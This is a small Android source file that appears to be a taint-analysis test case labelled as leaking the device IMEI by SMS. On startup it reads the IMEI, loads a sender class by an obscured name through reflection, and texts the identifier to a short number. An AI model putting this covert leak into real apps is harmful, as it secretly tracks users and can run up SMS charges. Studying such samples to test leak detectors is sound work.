// about       The class that sends is loaded by its name, with slashes for dots, and used by its interface.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      String name = "cn/example/flow/Sender".replace('/', '.');
      Job job = (Job) getClassLoader().loadClass(name).newInstance();
      job.take(phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

interface Job {
  void take(String text);
}

class Sender implements Job {
  @Override
  public void take(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Keeper implements Job {
  private String last;

  @Override
  public void take(String text) {
    last = text;
  }
}
